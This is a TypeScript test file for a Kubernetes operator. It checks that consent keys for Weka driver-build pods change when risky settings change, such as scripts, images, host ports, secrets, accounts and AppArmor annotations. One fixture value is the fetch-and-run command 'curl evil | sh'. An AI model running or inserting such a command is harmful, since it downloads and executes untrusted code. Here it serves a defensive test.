import { describe, expect, it } from 'vitest';
import type { DriverPodWanted } from '../../../../reconciler/core/drivers/decision.ts';
import { driverWorkOrder } from '../../../../reconciler/core/drivers/work-annotation.ts';
import { withDriverPods } from '../../../../reconciler/core/desired/driver-pods.ts';
import { withWorkConsent } from '../../../../reconciler/core/desired/work-consent.ts';
import type { KubeObject, ObjectId } from '../../../../reconciler/core/kube/object.ts';
import { consentKey } from '../../../../reconciler/core/plan/risk/deed.ts';
import { applied } from '../../../support/objects.ts';
import { wekaContainer } from '../../../support/manifests.ts';
import { builtOf, CONTEXT, driversPolicy } from './read-specs.ts';

const WEKA = 'quay.io/weka.io/weka-in-container:4.4.5';
const PACKAGE = { file: 'a.zip', sha256: 'a'.repeat(64), bytes: 1, layout: 'vendor' } as const;
const id = (kind: string, name: string) => `weka.weka.io/v1alpha1/${kind}/weka/${name}` as ObjectId;

/** What has to be consented to for a pod of a policy with this payload; the pod of a manifest's own builder where that is given. */
function consented(
  payload: object,
  more: Partial<DriverPodWanted> = {},
  {
    builder,
    annotations,
    live,
  }: {
    readonly builder?: object;
    readonly annotations?: Readonly<Record<string, string>>;
    readonly live?: KubeObject;
  } = {},
) {
  const target = { version: '4.4.5', kernel: '6.8.0-45-generic', architecture: 'x86_64' };
  const wanted: DriverPodWanted = {
    does: 'build',
    service: 'weka/drivers-dist',
    target,
    node: 'node-1',
    owner: builder === undefined ? id('WekaPolicy', 'drivers') : id('WekaContainer', 'builder'),
    image: WEKA,
    ...(live === undefined ? {} : { live: `v1/Pod/weka/${live.metadata.name}` as ObjectId }),
    ...more,
  };
  const { parsed, objects } = builtOf(
    driversPolicy('drivers', payload),
    ...(builder === undefined
      ? []
      : [withAnnotations(wekaContainer('weka', 'builder', builder), annotations)]),
  );
  const all = withDriverPods(objects, [wanted], {
    ...CONTEXT,
    specs: parsed.specs,
    live: new Map(live === undefined ? [] : [[`v1/Pod/weka/${live.metadata.name}` as ObjectId, live]]),
  });
  const one = withWorkConsent(all).find(({ object }) => driverWorkOrder(object)?.target !== undefined);
  if (one?.consent === undefined) throw new Error('Nothing is consented to.');
  return { object: one.object, consent: one.consent, key: consentKey(one.consent) };
}

function withAnnotations(text: string, annotations?: Readonly<Record<string, string>>): object {
  const manifest = JSON.parse(text) as { readonly metadata: object };
  return { ...manifest, metadata: { ...manifest.metadata, ...(annotations && { annotations }) } };
}

describe('consent to a pod that builds drivers', () => {
  const plain = consented({});

  it('names the image that really builds, the version, and a digest over how', () => {
    expect(plain.consent).toMatchObject({
      action: 'build-drivers',
      target: { kind: 'WekaPolicy', namespace: 'weka', name: 'drivers' },
      content: { image: WEKA, version: '4.4.5', how: expect.stringMatching(/^[0-9a-f]{64}$/) },
    });
    expect(consented({ builderImageOverride: 'quay.io/x/builder:1' }).consent.content).toMatchObject({
      image: 'quay.io/x/builder:1',
    });
  });

  it.each([
    ['the script that runs before', { builderPreRunScript: 'curl evil | sh' }],
    ['arguments of the build', { builder: { extraBuildArgs: ['CC=/tmp/cc'] } }],
    ['the image', { builderImageOverride: 'quay.io/x/builder:1' }],
  ])('is another one with %s', (_, payload) => {
    expect(consented(payload).key).not.toBe(plain.key);
    expect(consented(payload).key).toBe(consented(payload).key);
  });

  it('is one and the same for every node and every kernel', () => {
    const target = {
      version: '4.4.5',
      kernel: '6.1.0-50-cloud-amd64',
      architecture: 'x86_64',
      buildId: 'b1',
    };
    expect(consented({}, { node: 'node-2' }).key).toBe(plain.key);
    expect(consented({}, { target }).key).toBe(plain.key);
  });

  it('is read from the pod that is there, whatever the API server has filled in, and whatever manifests say by now', () => {
    const there = applied(plain.object);
    const spec = { ...(there['spec'] as object), hostPID: false, serviceAccountName: 'default' };
    const live = { ...there, metadata: { ...there.metadata, uid: 'u' }, spec };
    const now = consented({ builderPreRunScript: 'other' }, {}, { live });
    expect(now.key).toBe(plain.key);
    expect(now.object).toBe(live);
  });

  it('is another one with the script of a manifest’s own builder', () => {
    const builder = (script: string) => ({
      mode: 'drivers-builder',
      image: WEKA,
      uploadResultsTo: 'dist',
      overrides: { preRunScript: script },
    });
    const [one, other] = ['true', 'false'].map(
      (script) => consented({}, {}, { builder: builder(script) }).consent,
    );
    expect(one?.target).toMatchObject({ kind: 'WekaContainer', name: 'builder' });
    expect(one?.content['how']).not.toBe(other?.content['how']);
  });
});

describe('consent to a pod of a manifest’s own builder', () => {
  const builder = (more: object = {}) => ({
    mode: 'drivers-builder',
    image: WEKA,
    uploadResultsTo: 'dist',
    ...more,
  });
  const keyOf = (more?: object, annotations?: Readonly<Record<string, string>>) =>
    consented({}, {}, { builder: builder(more), ...(annotations && { annotations }) }).key;
  const plain = keyOf();

  it.each<[string, object]>([
    ['a port of the node', { exposedPorts: [{ name: 'ssh', containerPort: 22, hostPort: 22 }] }],
    ['a volume of others', { pvc: { name: 'others' } }],
    ['another folder of its volume', { pvc: { name: 'others', path: 'a' } }],
    ['a secret', { additionalSecrets: { x: 'others' } }],
    ['a secret in another place', { additionalSecrets: { y: 'others' } }],
    ['an account', { serviceAccountName: 'admin' }],
    ['a secret to pull images', { imagePullSecret: 'others' }],
    ['a toleration', { tolerations: [{ operator: 'Exists' }] }],
  ])('is another one with %s', (_, more) => {
    expect(keyOf(more)).not.toBe(plain);
    expect(keyOf(more)).toBe(keyOf(more));
  });

  it('is another one for each place of a secret', () => {
    expect(keyOf({ additionalSecrets: { y: 'others' } })).not.toBe(
      keyOf({ additionalSecrets: { x: 'others' } }),
    );
  });

  it('is another one with an annotation, which may be the right to any system call', () => {
    const unconfined = { 'container.apparmor.security.beta.kubernetes.io/weka-container': 'unconfined' };
    expect(keyOf({}, unconfined)).not.toBe(plain);
  });
});

describe('consent to a pod that loads drivers', () => {
  it('is one and the same for every node and every package', () => {
    const target = { version: '4.4.5', kernel: '6.8.0-45-generic', architecture: 'x86_64' };
    const load = (node: string, sha256 = 'a'.repeat(64)) =>
      consented({}, { does: 'load', node, package: { ...target, ...PACKAGE, sha256 } });
    expect(load('node-1').consent).toMatchObject({ action: 'load-drivers', content: { image: WEKA } });
    expect(load('node-2', 'b'.repeat(64)).key).toBe(load('node-1').key);
  });
});
